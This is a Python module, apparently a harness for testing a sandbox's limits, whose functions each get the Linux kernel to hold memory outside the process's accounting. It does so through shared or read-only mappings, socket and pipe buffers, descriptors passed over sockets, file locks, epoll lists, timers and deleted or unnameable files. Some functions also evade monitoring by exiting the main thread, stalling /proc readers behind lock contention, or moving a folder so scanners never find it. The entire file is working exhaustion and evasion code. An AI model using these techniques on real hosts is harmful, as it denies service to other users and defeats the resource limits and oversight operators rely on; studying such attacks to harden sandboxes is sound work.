"""Have the kernel keep bytes where nobody looks: each takes as much as it can, up to a bound, and says how much it has."""

import array
import ctypes
import fcntl
import os
import select
import socket
import struct
import threading
import time

import pandas as pd
from attacking import LIBRARY, call

DONE = pd.DataFrame({"done": [1]})
MUCH = 600 << 20
PIECE = 16 << 20
SHARED, PRIVATE, ANONYMOUS, GROWS_DOWN, NO_RESERVE = 1, 2, 32, 0x100, 0x4000
READ, WRITE = 1, 2
LIBRARY.syscall.restype = ctypes.c_long


def azureml_main():
    taken, held = [0], None
    try:
        held = globals()[blobprep_parameters["attack"]](taken)
        time.sleep(1.5 if taken[0] < MUCH // 2 else 6)
    except (OSError, MemoryError, RuntimeError) as error:
        print("refused:", error, flush=True)
    print("took", taken[0] >> 10, flush=True)
    del held
    return DONE, None


def mapped(size, flags, protection=READ | WRITE, descriptor=-1):
    return call("mmap", 0, size, protection, flags, descriptor, 0)


def shared_memory_unmapped_by_advice(taken):
    while taken[0] < MUCH:
        start = mapped(PIECE, SHARED | ANONYMOUS)
        ctypes.memset(start, 1, PIECE)
        call("madvise", start, PIECE, 4)
        taken[0] += PIECE


def shared_memory_of_which_a_page_is_mapped(taken):
    while taken[0] < MUCH:
        start = mapped(PIECE, SHARED | ANONYMOUS)
        ctypes.memset(start, 1, PIECE)
        call("munmap", start + 4096, PIECE - 4096)
        taken[0] += PIECE


def shared_memory_of_zeros(taken):
    zeros = os.open("/dev/zero", os.O_RDONLY)
    while taken[0] < MUCH:
        start = mapped(PIECE, SHARED, READ, zeros)
        for page in range(start, start + PIECE, 4096):
            ctypes.string_at(page, 1)
        call("munmap", start + 4096, PIECE - 4096)
        taken[0] += PIECE


def memory_that_is_only_read(taken):
    while taken[0] < MUCH:
        start = mapped(PIECE, PRIVATE | ANONYMOUS)
        ctypes.memset(start, 1, PIECE)
        call("mprotect", start, PIECE, READ)
        taken[0] += PIECE


def stack_beside_the_stack(taken):
    while taken[0] < MUCH:
        ctypes.memset(mapped(PIECE, PRIVATE | ANONYMOUS | GROWS_DOWN), 1, PIECE)
        taken[0] += PIECE


def without_the_first_thread(taken):
    def go_on():
        time.sleep(0.2)
        memory_that_is_only_read(taken)
        print("took", taken[0] >> 10, flush=True)
        time.sleep(3)
        os._exit(0)

    threading.Thread(target=go_on).start()
    call("exit", 0)


def tables_of_pages(taken):
    size = 120 << 30
    start = mapped(size, PRIVATE | ANONYMOUS | NO_RESERVE, READ)
    for page in range(start, start + size, 2 << 20):
        ctypes.string_at(page, 1)
        taken[0] += 4096


def filled(taken):
    pair = socket.socketpair()
    for end in pair:
        end.setblocking(False)
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
        try:
            while taken[0] < MUCH:
                taken[0] += end.send(bytes(65536))
        except OSError:
            pass
    return pair


def sockets_full_of_bytes(taken):
    held = []
    while taken[0] < MUCH:
        held.append(filled(taken))
    return held


def sockets_in_sockets(taken):
    held = []
    while taken[0] < MUCH:
        outer = socket.socketpair()
        for _ in range(8):
            inner = filled(taken)
            rights = array.array("i", [each.fileno() for each in inner])
            outer[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        held.append(outer)
    return held


def filters_of_sockets(taken):
    program = ctypes.create_string_buffer(struct.pack("HBBI", 6, 0, 0, 0xFFFF) * 4000)
    filtering = struct.pack("HxxxxxxP", 4000, ctypes.addressof(program))
    held = []
    while taken[0] < 300 << 20:
        held.append(socket.socketpair())
        for each in held[-1]:
            each.setsockopt(socket.SOL_SOCKET, 26, filtering)
            taken[0] += 32000
    return held, program


def pipes_made_larger(taken):
    held = []
    while taken[0] < MUCH:
        held.append(os.pipe())
        fcntl.fcntl(held[-1][1], 1031, 1 << 20)
        os.set_blocking(held[-1][1], False)
        taken[0] += os.write(held[-1][1], bytes(1 << 20))
    return held


def pages_of_files_in_pipes(taken):
    held = []
    while taken[0] < MUCH:
        with open("file", "w+b", buffering=0) as file:
            file.write(bytes(PIECE))
            held.append(os.pipe())
            for offset in range(0, PIECE, PIECE // 15):
                os.splice(file.fileno(), held[-1][1], 1, offset_src=offset)
            file.truncate(0)
        taken[0] += PIECE
    return held


def locked(taken, command):
    files = [os.open("file%d" % number, os.O_CREAT | os.O_RDWR) for number in range(1000)]
    for start in range(0, 3000, 2):
        for each in files:
            fcntl.fcntl(each, command, struct.pack("hhqqi4x", 1, 0, start, 1, 0))
            taken[0] += 200
    return files


def locks_on_files(taken):
    return locked(taken, fcntl.F_SETLK)


def locks_of_descriptors(taken):
    return locked(taken, 37)


def lists_of_what_is_watched(taken):
    watching = [select.epoll() for _ in range(1000)]
    pair = os.pipe()
    for number in range(2100, 4000):
        os.dup2(pair[0], number)
        for each in watching:
            each.register(number, 1)
            taken[0] += 256
        os.close(number)
    return watching, pair


def timers(taken):
    for _ in range(90_000):
        call("timer_create", 1, None, ctypes.byref(ctypes.c_int()))
        taken[0] += 256


def descriptors_of_a_thread(taken):
    held, error = [], []

    def take():
        try:
            call("close_range", 4000, 4000, 2)  # this thread has a copy of them all from now on
            held.append(sockets_full_of_bytes(taken))
            time.sleep(2)
        except OSError as refused:
            error.append(refused)

    thread = threading.Thread(target=take)
    thread.start()
    thread.join()
    if error:
        raise error[0]
    return held


def deleted(taken, size=20 << 20):
    name = "deleted%d" % taken[0]
    file = os.open(name, os.O_CREAT | os.O_RDWR)
    os.unlink(name)
    os.posix_fallocate(file, 0, size)
    taken[0] += size
    return file


def deleted_files_under_way(taken):
    pair = socket.socketpair()
    while taken[0] < MUCH:
        file = deleted(taken)
        pair[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [file]))])
        os.close(file)
        time.sleep(0.02)
    return pair


def deleted_files_of_which_a_page_is_mapped(taken):
    while taken[0] < MUCH:
        file = deleted(taken)
        mapped(4096, SHARED, READ, file)
        os.close(file)
        time.sleep(0.02)


def deleted_files_too_deep_to_be_named(taken):
    top = os.open(".", os.O_RDONLY)
    for _ in range(30):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    held = []
    while taken[0] < MUCH:
        held.append(deleted(taken))
        time.sleep(0.02)
    os.fchdir(top)
    return held


def deleted_folders_in_each_other(taken):
    top, held = os.getcwd(), []
    for _ in range(60):
        for _ in range(2500):
            os.mkdir("d")
            os.chdir("d")
            taken[0] += 4096 + 1024
        held.append(os.open(".", os.O_RDONLY))
        for _ in range(2500):
            os.chdir("..")
            os.rmdir("d")
    return top, held


def deleted_files_behind_maps_without_end(taken):
    for _ in range(14):
        os.mkdir("d" * 250)
        os.chdir("d" * 250)
    file = os.open("f" * 250, os.O_CREAT | os.O_RDWR)
    os.ftruncate(file, 4096)
    for _ in range(60_000):
        mapped(4096, SHARED, READ, file)
    return deleted_files_of_which_a_page_is_mapped(taken)


def deleted_files_without_the_first_thread(taken):
    held = []

    def go_on():
        time.sleep(0.2)
        while taken[0] < MUCH:
            held.append(deleted(taken))
            time.sleep(0.02)
        print("took", taken[0] >> 10, flush=True)
        time.sleep(3)
        os._exit(0)

    threading.Thread(target=go_on).start()
    call("exit", 0)


def texts_of_what_is_watched(taken):
    """Have the kernel write a long text about a descriptor, which it keeps as long as that is open."""
    watching, pair, held = select.epoll(), os.pipe(), []
    for number in range(2000, 4000):
        os.dup2(pair[0], number)
        watching.register(number, 1)
    os.closerange(2000, 4000)
    path = "/proc/self/fdinfo/%d" % watching.fileno()
    size = os.stat("/proc/self/fdinfo").st_blksize
    with open(path) as file:
        length = len(file.read())
    while size < length:
        size *= 2
    while taken[0] < MUCH and len(held) < 3500:
        held.append(os.open(path, os.O_RDONLY))
        os.read(held[-1], 1)
        taken[0] += size
    return held


def folder_that_is_never_where_it_was_seen(taken):
    """Move a folder about, so that whoever looks into all of them finds it in none."""
    places = ["place%d" % number for number in range(40)]
    open("empty", "w").close()
    for place in places:
        os.mkdir(place)
        for number in range(400):
            os.link("empty", "%s/%d" % (place, number))
    os.mkdir("moving")
    moving, ended = os.open("moving", os.O_RDONLY), []

    def move():
        now = "moving"
        while not ended:
            for place in places:
                os.rename(now, place + "/moving")
                now = place + "/moving"

    thread = threading.Thread(target=move)
    thread.start()
    try:
        while taken[0] < MUCH:
            file = os.open("file%d" % taken[0], os.O_CREAT | os.O_RDWR, dir_fd=moving)
            os.posix_fallocate(file, 0, 40 << 20)
            os.close(file)
            taken[0] += 40 << 20
            time.sleep(0.2)
        time.sleep(8)
    finally:
        ended.append(True)


def deleted_files_behind_a_lock(taken):
    """Have whoever reads what is mapped here wait behind many threads, each of which changes much of it."""
    threading.stack_size(1 << 16)
    size, piece, held = 5 << 30, bytes(1 << 20), []
    start = mapped(size, PRIVATE | ANONYMOUS | NO_RESERVE, READ)
    ready = threading.Event()
    change = LIBRARY.mprotect
    change.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]

    def hold():
        ready.wait()
        until = time.monotonic() + 25
        while time.monotonic() < until:
            change(start, size, 0)
            change(start, size, READ)

    for _ in range(150):
        threading.Thread(target=hold, daemon=True).start()
    for page in range(start, start + size, 1 << 21):
        call("madvise", page, 1 << 21, 22)
    ready.set()
    while taken[0] < MUCH:
        held.append(os.open("file", os.O_CREAT | os.O_RDWR))
        os.unlink("file")
        for _ in range(20):
            taken[0] += os.write(held[-1], piece)
    time.sleep(8)
    return held


def allocated_beyond_the_end(taken):
    """Allocate what no limit on the size of a file bounds, by one call."""
    file = os.open("file", os.O_CREAT | os.O_RDWR)
    call("fallocate", file, 1, 0, MUCH)
    taken[0] += MUCH
    os.write(1, b"took %d\n" % (taken[0] >> 10))
